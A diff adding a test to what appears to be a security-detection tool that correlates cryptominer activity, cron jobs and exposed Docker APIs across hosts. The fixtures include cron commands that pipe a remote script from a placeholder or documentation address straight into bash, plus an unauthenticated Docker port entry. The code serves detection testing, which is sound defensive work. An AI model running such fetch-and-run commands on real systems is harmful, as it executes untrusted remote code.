@@ -29,6 +29,18 @@ def test_a_job_of_the_sites_own_joins_nobody_though_some_of_its_hosts_mine(tmp_p
     assert told(reported(tmp_path, names, lines)) == []
 
 
+def test_miners_that_are_paid_apart_are_no_roll_out_and_a_misfire_keeps_nobody_from_being_next(
+    tmp_path: Path, names: Names
+) -> None:
+    lines = [miner(f"m{n}", T + n, wallet=f"4{n}") for n in range(6)] + [miner(f"c{n}", T + n, wallet="4w") for n in range(2)]
+    lines += [_job(f"h{n}", T + n, "curl -s https://conf.corp.example/bootstrap.sh | bash") for n in range(6)]
+    docker = {"service": "docker", "address": "0.0.0.0", "port": "2375", "evidence": "x"}
+    lines += [line("exposed_entry_service", 0, T, "added", host, **docker) for host in ("c0", "c1", "h3", "m3")]
+    report = reported(tmp_path, names, lines)
+    assert [each["query"] for each in report["alike"]] == ["cron_download_and_run"]
+    assert told(report) == [["c0", "c1"]] and [each["host"] for each in report["next"]] == ["h3"]
+
+
 def test_a_job_that_came_with_miners_joins_also_the_hosts_on_which_none_was_seen(tmp_path: Path, names: Names) -> None:
     lines = [_job(f"h{n}", T + 60 * n, "curl -s http://192.0.2.7/nebula-updater.sh | bash") for n in range(9)]
     lines += [miner(f"h{n}", T + 60 * n + 30, wallet=f"4w{n}") for n in range(4)]
